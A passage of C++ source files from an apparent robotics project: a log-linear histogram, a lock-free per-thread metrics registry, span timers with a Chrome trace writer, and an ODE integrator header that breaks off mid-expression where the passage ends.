