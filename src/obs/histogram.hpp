// Log-linear histogram: the bucket scheme shared by the metrics
// registry's per-thread shards and the campaign report's timing section.
//
// Values (unsigned 64-bit, typically nanoseconds or microseconds) are
// bucketed HdrHistogram-style: exact buckets below 2^kSubBucketBits, then
// kSubBuckets linear sub-buckets per power-of-two octave, giving a
// constant ~1/kSubBuckets (6.25%) relative error across the whole range.
// Merging is a plain bucket-wise sum, so it is associative and
// commutative — the property the registry's shard aggregation and the
// campaign's serial-order reductions rely on.
#pragma once

#include <array>
#include <bit>
#include <cstddef>
#include <cstdint>
#include <limits>

#include "common/realtime.hpp"

namespace rg::obs {

struct HistogramData {
  static constexpr int kSubBucketBits = 4;
  static constexpr std::uint64_t kSubBuckets = 1ull << kSubBucketBits;  // 16
  /// Values at or above 2^(kMaxExponent+1) are clamped into the top octave.
  static constexpr int kMaxExponent = 59;
  static constexpr std::size_t kBucketCount =
      kSubBuckets + static_cast<std::size_t>(kMaxExponent - kSubBucketBits + 1) * kSubBuckets;

  std::array<std::uint64_t, kBucketCount> buckets{};
  std::uint64_t count = 0;
  std::uint64_t sum = 0;
  std::uint64_t min = std::numeric_limits<std::uint64_t>::max();
  std::uint64_t max = 0;

  /// Largest representable value; anything above lands in the last bucket.
  [[nodiscard]] RG_REALTIME static constexpr std::uint64_t max_trackable() noexcept {
    return (1ull << (kMaxExponent + 1)) - 1;
  }

  [[nodiscard]] RG_REALTIME static constexpr std::size_t bucket_index(std::uint64_t v) noexcept {
    if (v < kSubBuckets) return static_cast<std::size_t>(v);
    if (v > max_trackable()) v = max_trackable();
    const int exp = static_cast<int>(std::bit_width(v)) - 1;  // >= kSubBucketBits
    const std::size_t base =
        kSubBuckets + static_cast<std::size_t>(exp - kSubBucketBits) * kSubBuckets;
    const std::size_t sub =
        static_cast<std::size_t>((v >> (exp - kSubBucketBits)) - kSubBuckets);
    return base + sub;
  }

  /// Inclusive lower bound of bucket `index`.
  [[nodiscard]] static constexpr std::uint64_t bucket_lower(std::size_t index) noexcept {
    if (index < kSubBuckets) return index;
    const std::size_t octave = (index - kSubBuckets) / kSubBuckets;
    const std::uint64_t sub = (index - kSubBuckets) % kSubBuckets;
    return (kSubBuckets + sub) << octave;
  }

  /// Width of bucket `index` (1 for the exact range, 2^octave above).
  [[nodiscard]] static constexpr std::uint64_t bucket_width(std::size_t index) noexcept {
    if (index < kSubBuckets) return 1;
    return 1ull << ((index - kSubBuckets) / kSubBuckets);
  }

  void observe(std::uint64_t v) noexcept {
    ++buckets[bucket_index(v)];
    ++count;
    sum += v;
    if (v < min) min = v;
    if (v > max) max = v;
  }

  void merge(const HistogramData& other) noexcept {
    for (std::size_t i = 0; i < kBucketCount; ++i) buckets[i] += other.buckets[i];
    count += other.count;
    sum += other.sum;
    if (other.min < min) min = other.min;
    if (other.max > max) max = other.max;
  }

  [[nodiscard]] bool empty() const noexcept { return count == 0; }

  [[nodiscard]] double mean() const noexcept {
    return count > 0 ? static_cast<double>(sum) / static_cast<double>(count) : 0.0;
  }

  /// A percentile estimate plus whether the histogram had data to answer
  /// from.  Serializers must check `valid` before embedding `value` — an
  /// empty histogram answers {0.0, false}, never NaN, so snapshot JSON and
  /// the Prometheus exposition stay well-formed regardless of traffic.
  struct Quantile {
    double value = 0.0;
    bool valid = false;
  };

  /// Value at percentile `p` in [0, 100]: the midpoint of the first bucket
  /// whose cumulative count reaches ceil(p/100 * count).  Exact for values
  /// below kSubBuckets, within one sub-bucket width above.  An empty
  /// histogram or a NaN `p` yields {0.0, false}.
  [[nodiscard]] Quantile quantile(double p) const noexcept {
    if (count == 0 || p != p) return {0.0, false};
    if (p <= 0.0) return {static_cast<double>(min), true};
    if (p >= 100.0) return {static_cast<double>(max), true};
    const double target_d = p / 100.0 * static_cast<double>(count);
    auto target = static_cast<std::uint64_t>(target_d);
    if (static_cast<double>(target) < target_d) ++target;  // ceil
    if (target == 0) target = 1;
    std::uint64_t cumulative = 0;
    for (std::size_t i = 0; i < kBucketCount; ++i) {
      cumulative += buckets[i];
      if (cumulative >= target) {
        const std::uint64_t lower = bucket_lower(i);
        const std::uint64_t width = bucket_width(i);
        // Exact buckets (width 1) report their value; wider buckets their
        // midpoint, clamped into the observed range.
        double v = width == 1 ? static_cast<double>(lower)
                              : static_cast<double>(lower) +
                                    static_cast<double>(width - 1) / 2.0;
        if (v > static_cast<double>(max)) v = static_cast<double>(max);
        if (v < static_cast<double>(min)) v = static_cast<double>(min);
        return {v, true};
      }
    }
    return {static_cast<double>(max), true};
  }

  /// Back-compat scalar view of quantile(): 0.0 when there is no data.
  [[nodiscard]] double percentile(double p) const noexcept { return quantile(p).value; }

  bool operator==(const HistogramData& other) const = default;
};

}  // namespace rg::obs
