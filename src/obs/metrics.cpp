#include "obs/metrics.hpp"

#include <algorithm>
#include <fstream>
#include <ostream>
#include <stdexcept>

namespace rg::obs {

namespace {

constexpr MetricId pack(MetricKind kind, std::size_t slot) noexcept {
  return (static_cast<MetricId>(kind) << 24) | static_cast<MetricId>(slot);
}

RG_REALTIME void atomic_update_min(std::atomic<std::uint64_t>& target, std::uint64_t v) noexcept {
  std::uint64_t cur = target.load(std::memory_order_relaxed);
  while (v < cur && !target.compare_exchange_weak(cur, v, std::memory_order_relaxed)) {
  }
}

RG_REALTIME void atomic_update_max(std::atomic<std::uint64_t>& target, std::uint64_t v) noexcept {
  std::uint64_t cur = target.load(std::memory_order_relaxed);
  while (v > cur && !target.compare_exchange_weak(cur, v, std::memory_order_relaxed)) {
  }
}

}  // namespace

/// Per-thread shard slot; the destructor (thread exit) merges the shard
/// back into its registry.  Friend of Registry.
struct ShardHandle {
  Registry* owner = nullptr;
  Registry::Shard* shard = nullptr;
  ~ShardHandle() {
    if (owner != nullptr && shard != nullptr) owner->retire(shard);
  }

  static thread_local ShardHandle tls;

  static Registry::Shard& local(Registry& registry) {
    ShardHandle& slot = tls;
    if (slot.shard == nullptr || slot.owner != &registry) {
      // A thread talks to one registry at a time (the global one in
      // practice); switching registries retires the old shard first.
      if (slot.shard != nullptr && slot.owner != nullptr) slot.owner->retire(slot.shard);
      auto* shard = new Registry::Shard();
      {
        std::lock_guard<std::mutex> lock(registry.mutex_);
        registry.shards_.push_back(shard);
      }
      slot.owner = &registry;
      slot.shard = shard;
    }
    return *slot.shard;
  }
};

thread_local ShardHandle ShardHandle::tls;

Registry::Shard::~Shard() {
  for (auto& h : hists) delete h.load(std::memory_order_relaxed);
}

RG_REALTIME RG_THREAD(any) Registry& Registry::global() {
  static Registry registry;
  return registry;
}

Registry::~Registry() {
  // Detach the destroying thread's slot so its tls destructor does not
  // retire into a dead registry.  Any other thread that used a non-global
  // registry must have exited before this point (documented contract);
  // the global registry dies only at process exit.
  if (ShardHandle::tls.owner == this) {
    ShardHandle::tls.owner = nullptr;
    ShardHandle::tls.shard = nullptr;
  }
  std::lock_guard<std::mutex> lock(mutex_);
  for (Shard* shard : shards_) delete shard;
  shards_.clear();
}

MetricId Registry::register_metric(std::string_view name, MetricKind kind,
                                   std::size_t capacity) {
  std::lock_guard<std::mutex> lock(mutex_);
  const std::string key(name);
  if (auto it = by_name_.find(key); it != by_name_.end()) {
    if (metric_kind(it->second) != kind) {
      throw std::invalid_argument("obs::Registry: metric '" + key +
                                  "' already registered with a different kind");
    }
    return it->second;
  }
  std::vector<std::string>* names = nullptr;
  switch (kind) {
    case MetricKind::kCounter: names = &counter_names_; break;
    case MetricKind::kGauge: names = &gauge_names_; break;
    case MetricKind::kHistogram: names = &histogram_names_; break;
  }
  if (names->size() >= capacity) {
    throw std::length_error("obs::Registry: capacity exhausted for metric '" + key + "'");
  }
  const MetricId id = pack(kind, names->size());
  names->push_back(key);
  by_name_.emplace(std::move(key), id);
  return id;
}

MetricId Registry::counter(std::string_view name) {
  return register_metric(name, MetricKind::kCounter, kMaxCounters);
}
MetricId Registry::gauge(std::string_view name) {
  return register_metric(name, MetricKind::kGauge, kMaxGauges);
}
MetricId Registry::histogram(std::string_view name) {
  return register_metric(name, MetricKind::kHistogram, kMaxHistograms);
}

Registry::Shard& Registry::local_shard() { return ShardHandle::local(*this); }

RG_REALTIME RG_THREAD(any) void Registry::add(MetricId id, std::uint64_t delta) noexcept {
  // rg-lint: allow(call) -- local_shard allocates once per thread; steady state is one relaxed add
  local_shard().counters[metric_slot(id)].fetch_add(delta, std::memory_order_relaxed);
}

RG_REALTIME RG_THREAD(any) void Registry::set(MetricId id, double value) noexcept {
  gauges_[metric_slot(id)].store(value, std::memory_order_relaxed);
}

RG_REALTIME RG_THREAD(any) void Registry::observe(MetricId id, std::uint64_t value) noexcept {
  // rg-lint: allow(call) -- local_shard allocates once per thread; steady state is relaxed adds
  Shard& shard = local_shard();
  std::atomic<HistShard*>& cell = shard.hists[metric_slot(id)];
  HistShard* hist = cell.load(std::memory_order_relaxed);
  if (hist == nullptr) {
    // rg-lint: allow(alloc) -- one lazy HistShard per (thread, histogram), never freed hot
    hist = new HistShard();
    cell.store(hist, std::memory_order_release);  // snapshot() acquires
  }
  hist->buckets[HistogramData::bucket_index(value)].fetch_add(1, std::memory_order_relaxed);
  hist->count.fetch_add(1, std::memory_order_relaxed);
  hist->sum.fetch_add(value, std::memory_order_relaxed);
  atomic_update_min(hist->min, value);
  atomic_update_max(hist->max, value);
}

void Registry::accumulate(RetiredData& into, const Shard& shard) {
  for (std::size_t i = 0; i < kMaxCounters; ++i) {
    into.counters[i] += shard.counters[i].load(std::memory_order_relaxed);
  }
  for (std::size_t i = 0; i < kMaxHistograms; ++i) {
    const HistShard* hist = shard.hists[i].load(std::memory_order_acquire);
    if (hist == nullptr) continue;
    if (!into.hists[i]) into.hists[i] = std::make_unique<HistogramData>();
    HistogramData& dst = *into.hists[i];
    for (std::size_t b = 0; b < HistogramData::kBucketCount; ++b) {
      dst.buckets[b] += hist->buckets[b].load(std::memory_order_relaxed);
    }
    dst.count += hist->count.load(std::memory_order_relaxed);
    dst.sum += hist->sum.load(std::memory_order_relaxed);
    dst.min = std::min(dst.min, hist->min.load(std::memory_order_relaxed));
    dst.max = std::max(dst.max, hist->max.load(std::memory_order_relaxed));
  }
}

void Registry::retire(Shard* shard) noexcept {
  std::lock_guard<std::mutex> lock(mutex_);
  accumulate(retired_, *shard);
  shards_.erase(std::remove(shards_.begin(), shards_.end(), shard), shards_.end());
  delete shard;
}

MetricsSnapshot Registry::snapshot() const {
  std::lock_guard<std::mutex> lock(mutex_);
  RetiredData merged;
  for (std::size_t i = 0; i < kMaxCounters; ++i) merged.counters[i] = retired_.counters[i];
  for (std::size_t i = 0; i < kMaxHistograms; ++i) {
    if (retired_.hists[i]) merged.hists[i] = std::make_unique<HistogramData>(*retired_.hists[i]);
  }
  for (const Shard* shard : shards_) accumulate(merged, *shard);

  MetricsSnapshot snap;
  snap.counters.reserve(counter_names_.size());
  for (std::size_t i = 0; i < counter_names_.size(); ++i) {
    snap.counters.push_back({counter_names_[i], merged.counters[i]});
  }
  snap.gauges.reserve(gauge_names_.size());
  for (std::size_t i = 0; i < gauge_names_.size(); ++i) {
    snap.gauges.push_back({gauge_names_[i], gauges_[i].load(std::memory_order_relaxed)});
  }
  snap.histograms.reserve(histogram_names_.size());
  for (std::size_t i = 0; i < histogram_names_.size(); ++i) {
    snap.histograms.push_back(
        {histogram_names_[i], merged.hists[i] ? *merged.hists[i] : HistogramData{}});
  }
  auto by_name = [](const auto& a, const auto& b) { return a.name < b.name; };
  std::sort(snap.counters.begin(), snap.counters.end(), by_name);
  std::sort(snap.gauges.begin(), snap.gauges.end(), by_name);
  std::sort(snap.histograms.begin(), snap.histograms.end(), by_name);
  return snap;
}

void Registry::reset() noexcept {
  std::lock_guard<std::mutex> lock(mutex_);
  retired_ = RetiredData{};
  for (auto& g : gauges_) g.store(0.0, std::memory_order_relaxed);
  for (Shard* shard : shards_) {
    for (auto& c : shard->counters) c.store(0, std::memory_order_relaxed);
    for (auto& cell : shard->hists) {
      HistShard* hist = cell.load(std::memory_order_relaxed);
      if (hist == nullptr) continue;
      for (auto& b : hist->buckets) b.store(0, std::memory_order_relaxed);
      hist->count.store(0, std::memory_order_relaxed);
      hist->sum.store(0, std::memory_order_relaxed);
      hist->min.store(std::numeric_limits<std::uint64_t>::max(), std::memory_order_relaxed);
      hist->max.store(0, std::memory_order_relaxed);
    }
  }
}

// --- MetricsSnapshot ---------------------------------------------------------

namespace {

template <typename Entry, typename Combine>
void merge_sorted(std::vector<Entry>& into, const std::vector<Entry>& from,
                  Combine&& combine) {
  for (const Entry& e : from) {
    auto it = std::lower_bound(into.begin(), into.end(), e,
                               [](const Entry& a, const Entry& b) { return a.name < b.name; });
    if (it != into.end() && it->name == e.name) {
      combine(*it, e);
    } else {
      into.insert(it, e);
    }
  }
}

}  // namespace

void MetricsSnapshot::merge(const MetricsSnapshot& other) {
  merge_sorted(counters, other.counters,
               [](CounterValue& a, const CounterValue& b) { a.value += b.value; });
  merge_sorted(gauges, other.gauges,
               [](GaugeValue& a, const GaugeValue& b) { a.value = b.value; });
  merge_sorted(histograms, other.histograms,
               [](HistogramValue& a, const HistogramValue& b) { a.data.merge(b.data); });
}

const HistogramData* MetricsSnapshot::histogram(std::string_view name) const noexcept {
  for (const HistogramValue& h : histograms) {
    if (h.name == name) return &h.data;
  }
  return nullptr;
}

const MetricsSnapshot::CounterValue* MetricsSnapshot::counter(
    std::string_view name) const noexcept {
  for (const CounterValue& c : counters) {
    if (c.name == name) return &c;
  }
  return nullptr;
}

void MetricsSnapshot::write_json(std::ostream& os) const {
  os.precision(17);
  os << "{\n  \"schema\": \"rg.metrics/1\",\n";
  os << "  \"counters\": {";
  for (std::size_t i = 0; i < counters.size(); ++i) {
    os << (i ? ",\n    " : "\n    ") << '"' << counters[i].name << "\": " << counters[i].value;
  }
  os << (counters.empty() ? "" : "\n  ") << "},\n";
  os << "  \"gauges\": {";
  for (std::size_t i = 0; i < gauges.size(); ++i) {
    os << (i ? ",\n    " : "\n    ") << '"' << gauges[i].name << "\": " << gauges[i].value;
  }
  os << (gauges.empty() ? "" : "\n  ") << "},\n";
  os << "  \"histograms\": {";
  for (std::size_t i = 0; i < histograms.size(); ++i) {
    const HistogramData& h = histograms[i].data;
    os << (i ? ",\n    " : "\n    ") << '"' << histograms[i].name << "\": {";
    os << "\"count\": " << h.count;
    os << ", \"mean\": " << h.mean();
    os << ", \"min\": " << (h.empty() ? 0 : h.min);
    os << ", \"max\": " << h.max;
    os << ", \"p50\": " << h.percentile(50.0);
    os << ", \"p90\": " << h.percentile(90.0);
    os << ", \"p99\": " << h.percentile(99.0) << "}";
  }
  os << (histograms.empty() ? "" : "\n  ") << "}\n}\n";
}

bool MetricsSnapshot::write_json_file(const std::string& path) const {
  std::ofstream os(path);
  if (!os) return false;
  write_json(os);
  return static_cast<bool>(os);
}

std::uint32_t thread_index() noexcept {
  static std::atomic<std::uint32_t> next{0};
  thread_local const std::uint32_t index = next.fetch_add(1, std::memory_order_relaxed);
  return index;
}

}  // namespace rg::obs
