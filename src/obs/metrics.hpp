// Process-wide metrics registry with lock-free per-thread shards.
//
// Hot-path writes (counter adds, histogram observes) touch only the
// calling thread's shard through relaxed atomics — no locks, no false
// sharing with other writers.  Aggregation is explicit: snapshot() merges
// every live shard plus the retained data of exited threads under the
// registration mutex.  Nothing here feeds back into simulation state, so
// campaign determinism is untouched regardless of thread schedule.
//
// Registration (name -> id) happens once per call site — the RG_COUNT /
// RG_SPAN macros cache the id in a function-local static — and takes the
// mutex; after that the id is a plain (kind, slot) pair resolved without
// lookup.  Capacities are fixed so shards never reallocate under
// concurrent writers; exceeding them throws at registration time.
//
// Metric naming convention (docs/observability.md): dotted lower-case
// paths rooted at "rg.", e.g. "rg.sim.ticks", "rg.span.estimator.solve".
// Span histograms record nanoseconds.
#pragma once

#include <array>
#include <atomic>
#include <cstdint>
#include <iosfwd>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "common/realtime.hpp"
#include "obs/histogram.hpp"

namespace rg::obs {

enum class MetricKind : std::uint8_t { kCounter, kGauge, kHistogram };

/// Packed metric handle: kind in the top byte, per-kind slot below.
using MetricId = std::uint32_t;

[[nodiscard]] constexpr MetricKind metric_kind(MetricId id) noexcept {
  return static_cast<MetricKind>(id >> 24);
}
[[nodiscard]] RG_REALTIME constexpr std::uint32_t metric_slot(MetricId id) noexcept {
  return id & 0x00FFFFFFu;
}

/// Point-in-time aggregate of the registry (or of one retired shard).
struct MetricsSnapshot {
  struct CounterValue {
    std::string name;
    std::uint64_t value = 0;
  };
  struct GaugeValue {
    std::string name;
    double value = 0.0;
  };
  struct HistogramValue {
    std::string name;
    HistogramData data{};
  };

  std::vector<CounterValue> counters;
  std::vector<GaugeValue> gauges;
  std::vector<HistogramValue> histograms;

  /// Bucket-wise / value-wise sum, matching entries by name (gauges take
  /// the other side's value when present).  Associative and commutative
  /// up to entry order; entries are kept sorted by name.
  void merge(const MetricsSnapshot& other);

  [[nodiscard]] const HistogramData* histogram(std::string_view name) const noexcept;
  [[nodiscard]] const CounterValue* counter(std::string_view name) const noexcept;

  /// Machine-readable dump (schema "rg.metrics/1"): counters, gauges, and
  /// per-histogram count/mean/min/max/p50/p90/p99.
  void write_json(std::ostream& os) const;
  [[nodiscard]] bool write_json_file(const std::string& path) const;
};

class Registry {
 public:
  static constexpr std::size_t kMaxCounters = 192;
  static constexpr std::size_t kMaxGauges = 64;
  static constexpr std::size_t kMaxHistograms = 48;

  /// The process-wide registry used by the RG_* macros.
  RG_REALTIME RG_THREAD(any) static Registry& global();

  Registry() = default;
  Registry(const Registry&) = delete;
  Registry& operator=(const Registry&) = delete;
  ~Registry();

  // --- registration (idempotent per name; throws std::length_error when a
  // kind's capacity is exhausted, std::invalid_argument on a kind clash) --
  MetricId counter(std::string_view name);
  MetricId gauge(std::string_view name);
  MetricId histogram(std::string_view name);

  // --- hot path ------------------------------------------------------------
  RG_REALTIME RG_THREAD(any) void add(MetricId id, std::uint64_t delta = 1) noexcept;
  RG_REALTIME RG_THREAD(any) void set(MetricId id, double value) noexcept;
  RG_REALTIME RG_THREAD(any) void observe(MetricId id, std::uint64_t value) noexcept;

  /// Merge every shard (live + retired) into a snapshot, sorted by name.
  [[nodiscard]] MetricsSnapshot snapshot() const;

  /// Zero all recorded data (registrations survive).  Only meaningful when
  /// no other thread is concurrently writing; intended for tests.
  void reset() noexcept;

 private:
  struct HistShard {
    std::array<std::atomic<std::uint64_t>, HistogramData::kBucketCount> buckets{};
    std::atomic<std::uint64_t> count{0};
    std::atomic<std::uint64_t> sum{0};
    std::atomic<std::uint64_t> min{std::numeric_limits<std::uint64_t>::max()};
    std::atomic<std::uint64_t> max{0};
  };
  struct Shard {
    std::array<std::atomic<std::uint64_t>, kMaxCounters> counters{};
    std::array<std::atomic<HistShard*>, kMaxHistograms> hists{};
    ~Shard();
  };
  /// Plain (non-atomic) accumulator for shards whose thread has exited.
  struct RetiredData {
    std::array<std::uint64_t, kMaxCounters> counters{};
    std::array<std::unique_ptr<HistogramData>, kMaxHistograms> hists;
  };

  friend struct ShardHandle;

  MetricId register_metric(std::string_view name, MetricKind kind, std::size_t capacity);
  Shard& local_shard();
  void retire(Shard* shard) noexcept;
  static void accumulate(RetiredData& into, const Shard& shard);

  mutable std::mutex mutex_;
  std::unordered_map<std::string, MetricId> by_name_;
  std::vector<std::string> counter_names_;
  std::vector<std::string> gauge_names_;
  std::vector<std::string> histogram_names_;
  std::vector<Shard*> shards_;
  RetiredData retired_{};
  std::array<std::atomic<double>, kMaxGauges> gauges_{};
};

/// Small dense per-thread index (0, 1, 2, ...) for trace/log annotation.
[[nodiscard]] std::uint32_t thread_index() noexcept;

}  // namespace rg::obs

// Counter convenience for hot paths: registers once per call site, then a
// single relaxed fetch_add per hit.  Compiled out under RG_OBS_DISABLED.
#ifndef RG_OBS_DISABLED
#define RG_COUNT(name, delta)                                                      \
  do {                                                                             \
    static const ::rg::obs::MetricId rg_count_id_ =                                \
        ::rg::obs::Registry::global().counter(name);                               \
    ::rg::obs::Registry::global().add(rg_count_id_, (delta));                      \
  } while (0)
#else
#define RG_COUNT(name, delta) ((void)0)
#endif
