// Umbrella header for the telemetry subsystem (docs/observability.md).
//
//   metrics.hpp          lock-free sharded counters/gauges/histograms
//   histogram.hpp        the log-linear bucket math (plain data)
//   span.hpp             RG_SPAN RAII timers + Chrome trace-event writer
//   events.hpp           JSONL safety-event log (schema rg.events/1)
//   flight_recorder.hpp  last-N-ticks incident ring (schema rg.flight/1)
//
// Define RG_OBS_DISABLED (cmake -DRG_OBS_DISABLED=ON) to compile the
// RG_SPAN / RG_COUNT instrumentation out of the hot paths entirely.
#pragma once

#include "obs/events.hpp"
#include "obs/flight_recorder.hpp"
#include "obs/histogram.hpp"
#include "obs/metrics.hpp"
#include "obs/span.hpp"
