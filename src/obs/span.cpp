#include "obs/span.hpp"

#include <atomic>
#include <fstream>
#include <ostream>

namespace rg::obs {

namespace {
std::atomic<TraceWriter*> g_active_writer{nullptr};
}  // namespace

TraceWriter::TraceWriter() : epoch_ns_(monotonic_ns()) {}

TraceWriter::~TraceWriter() { uninstall(); }

void TraceWriter::install() noexcept {
  g_active_writer.store(this, std::memory_order_release);
}

void TraceWriter::uninstall() noexcept {
  TraceWriter* self = this;
  g_active_writer.compare_exchange_strong(self, nullptr, std::memory_order_acq_rel);
}

TraceWriter* TraceWriter::active() noexcept {
  return g_active_writer.load(std::memory_order_acquire);
}

void TraceWriter::emit(const char* name, std::uint64_t start_ns, std::uint64_t dur_ns) {
  const std::uint32_t tid = thread_index();
  std::lock_guard<std::mutex> lock(mutex_);
  events_.push_back(Event{name, start_ns, dur_ns, tid});
}

std::size_t TraceWriter::events() const {
  std::lock_guard<std::mutex> lock(mutex_);
  return events_.size();
}

void TraceWriter::write_json(std::ostream& os) const {
  std::lock_guard<std::mutex> lock(mutex_);
  os.precision(6);
  os << std::fixed;
  os << "{\"displayTimeUnit\": \"ms\", \"traceEvents\": [";
  for (std::size_t i = 0; i < events_.size(); ++i) {
    const Event& e = events_[i];
    const double ts_us =
        static_cast<double>(e.start_ns - (e.start_ns >= epoch_ns_ ? epoch_ns_ : e.start_ns)) /
        1000.0;
    const double dur_us = static_cast<double>(e.dur_ns) / 1000.0;
    os << (i ? ",\n  " : "\n  ");
    os << "{\"name\": \"" << e.name << "\", \"cat\": \"rg\", \"ph\": \"X\", \"ts\": " << ts_us
       << ", \"dur\": " << dur_us << ", \"pid\": 1, \"tid\": " << e.tid << "}";
  }
  os << (events_.empty() ? "" : "\n") << "]}\n";
}

bool TraceWriter::write_json_file(const std::string& path) const {
  std::ofstream os(path);
  if (!os) return false;
  write_json(os);
  return static_cast<bool>(os);
}

}  // namespace rg::obs
