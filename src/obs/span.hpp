// RAII span timers and the Chrome trace-event writer.
//
//   void DetectionPipeline::process(...) {
//     RG_SPAN("pipeline.process");
//     ...
//   }
//
// Every span records its duration (nanoseconds) into the global metrics
// registry under "rg.span.<name>" — always on, one relaxed atomic add per
// exit.  When a TraceWriter is installed (opt-in, e.g. the CLI's
// --trace-out), spans additionally append complete ("ph":"X") events that
// Perfetto / chrome://tracing load directly.
//
// RG_SPAN compiles out entirely under RG_OBS_DISABLED (cmake
// -DRG_OBS_DISABLED=ON); bench/bench_obs_overhead.cpp measures both paths.
#pragma once

#include <chrono>
#include <cstdint>
#include <iosfwd>
#include <mutex>
#include <string>
#include <vector>

#include "common/realtime.hpp"
#include "obs/metrics.hpp"

namespace rg::obs {

/// Monotonic nanoseconds (steady clock) — the span/trace time base.
[[nodiscard]] RG_REALTIME RG_THREAD(any) inline std::uint64_t monotonic_ns() noexcept {
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(
          std::chrono::steady_clock::now().time_since_epoch())
          .count());
}

/// Collects span events and serializes them as a Chrome trace-event JSON
/// object ({"traceEvents": [...]}).  One writer is process-wide "active"
/// at a time; emission is mutex-buffered (tracing is an opt-in diagnostic
/// mode, not part of the always-on hot path).
class TraceWriter {
 public:
  TraceWriter();
  ~TraceWriter();
  TraceWriter(const TraceWriter&) = delete;
  TraceWriter& operator=(const TraceWriter&) = delete;

  /// Make this writer the process-wide span sink.
  void install() noexcept;
  /// Stop collecting (idempotent; the destructor also uninstalls).
  void uninstall() noexcept;
  [[nodiscard]] static TraceWriter* active() noexcept;

  /// Append one complete event.  `name` must outlive the writer (the RG_SPAN
  /// call sites pass string literals).
  void emit(const char* name, std::uint64_t start_ns, std::uint64_t dur_ns);

  [[nodiscard]] std::size_t events() const;

  /// Chrome trace-event JSON: {"displayTimeUnit":"ms","traceEvents":[...]}.
  /// Timestamps are microseconds relative to the writer's creation.
  void write_json(std::ostream& os) const;
  [[nodiscard]] bool write_json_file(const std::string& path) const;

 private:
  struct Event {
    const char* name;
    std::uint64_t start_ns;
    std::uint64_t dur_ns;
    std::uint32_t tid;
  };
  mutable std::mutex mutex_;
  std::vector<Event> events_;
  std::uint64_t epoch_ns_;
};

/// The RG_SPAN workhorse: times its scope, feeds the registry histogram
/// and (when installed) the active TraceWriter.
class ScopedSpan {
 public:
  ScopedSpan(const char* name, MetricId histogram_id) noexcept
      : name_(name), histogram_id_(histogram_id), start_ns_(monotonic_ns()) {}
  ScopedSpan(const ScopedSpan&) = delete;
  ScopedSpan& operator=(const ScopedSpan&) = delete;
  ~ScopedSpan() {
    const std::uint64_t dur = monotonic_ns() - start_ns_;
    Registry::global().observe(histogram_id_, dur);
    if (TraceWriter* writer = TraceWriter::active()) writer->emit(name_, start_ns_, dur);
  }

 private:
  const char* name_;
  MetricId histogram_id_;
  std::uint64_t start_ns_;
};

}  // namespace rg::obs

#define RG_OBS_CONCAT_INNER(a, b) a##b
#define RG_OBS_CONCAT(a, b) RG_OBS_CONCAT_INNER(a, b)

#ifndef RG_OBS_DISABLED
/// Time the enclosing scope as span `name` (a string literal).
#define RG_SPAN(name)                                                            \
  static const ::rg::obs::MetricId RG_OBS_CONCAT(rg_span_id_, __LINE__) =        \
      ::rg::obs::Registry::global().histogram("rg.span." name);                  \
  const ::rg::obs::ScopedSpan RG_OBS_CONCAT(rg_span_, __LINE__)(                 \
      name, RG_OBS_CONCAT(rg_span_id_, __LINE__))
#else
#define RG_SPAN(name) ((void)0)
#endif
