// Numerical integration of ordinary differential equations.
//
// The paper compares explicit Euler and 4th-order Runge-Kutta (via the C++
// odeint package) for solving the robot's motor+link dynamics within the
// 1 ms control period.  We implement those two, plus midpoint (RK2) and an
// adaptive RKF45 used in ablation benches.
//
// A State must support: State + State, State - State, double * State, and
// a norm_inf() member (only needed for the adaptive solver).  rg::Vec<N>
// satisfies all of these.
#pragma once

#include <algorithm>
#include <cmath>
#include <concepts>
#include <cstdint>
#include <cstdlib>
#include <stdexcept>
#include <string_view>
#include <utility>

#include "common/realtime.hpp"

namespace rg {

/// Runtime-selectable solver kind (the Fig. 8 comparison axis).
enum class SolverKind : std::uint8_t { kEuler, kMidpoint, kRk4, kRkf45 };

/// Config-time validation: throws std::invalid_argument for an
/// out-of-range SolverKind (e.g. a corrupted or miscast config value).
/// Call this where a solver choice *enters* the system — constructors and
/// option parsers — so the hot-path dispatch below can assume validity
/// and stay noexcept-callable.
inline void validate_solver(SolverKind kind) {
  switch (kind) {
    case SolverKind::kEuler:
    case SolverKind::kMidpoint:
    case SolverKind::kRk4:
    case SolverKind::kRkf45:
      return;
  }
  throw std::invalid_argument("invalid SolverKind value");
}

constexpr std::string_view to_string(SolverKind kind) noexcept {
  switch (kind) {
    case SolverKind::kEuler: return "Euler";
    case SolverKind::kMidpoint: return "Midpoint";
    case SolverKind::kRk4: return "RK4";
    case SolverKind::kRkf45: return "RKF45";
  }
  return "unknown";
}

/// f(t, x) -> dx/dt
template <typename F, typename State>
concept DerivativeFn = requires(F f, double t, const State& x) {
  { f(t, x) } -> std::convertible_to<State>;
};

/// One explicit-Euler step: x + h f(t, x).
template <typename State, DerivativeFn<State> F>
RG_REALTIME State euler_step(F&& f, double t, const State& x, double h) {
  return x + h * f(t, x);
}

/// One midpoint (RK2) step.
template <typename State, DerivativeFn<State> F>
RG_REALTIME State midpoint_step(F&& f, double t, const State& x, double h) {
  const State k1 = f(t, x);
  return x + h * f(t + 0.5 * h, x + (0.5 * h) * k1);
}

/// One classical RK4 step.
template <typename State, DerivativeFn<State> F>
RG_REALTIME State rk4_step(F&& f, double t, const State& x, double h) {
  const State k1 = f(t, x);
  const State k2 = f(t + 0.5 * h, x + (0.5 * h) * k1);
  const State k3 = f(t + 0.5 * h, x + (0.5 * h) * k2);
  const State k4 = f(t + h, x + h * k3);
  return x + (h / 6.0) * (k1 + 2.0 * k2 + 2.0 * k3 + k4);
}

/// One Runge-Kutta-Fehlberg 4(5) step; returns {x5, err_inf} where x5 is
/// the 5th-order solution and err_inf the infinity-norm of the embedded
/// 4th/5th-order difference.
template <typename State, DerivativeFn<State> F>
RG_REALTIME std::pair<State, double> rkf45_step(F&& f, double t, const State& x, double h) {
  const State k1 = f(t, x);
  const State k2 = f(t + h / 4.0, x + (h / 4.0) * k1);
  const State k3 = f(t + 3.0 * h / 8.0, x + (3.0 * h / 32.0) * k1 + (9.0 * h / 32.0) * k2);
  const State k4 = f(t + 12.0 * h / 13.0,
                     x + (1932.0 * h / 2197.0) * k1 - (7200.0 * h / 2197.0) * k2 +
                         (7296.0 * h / 2197.0) * k3);
  const State k5 = f(t + h, x + (439.0 * h / 216.0) * k1 - (8.0 * h) * k2 +
                                (3680.0 * h / 513.0) * k3 - (845.0 * h / 4104.0) * k4);
  const State k6 = f(t + h / 2.0, x - (8.0 * h / 27.0) * k1 + (2.0 * h) * k2 -
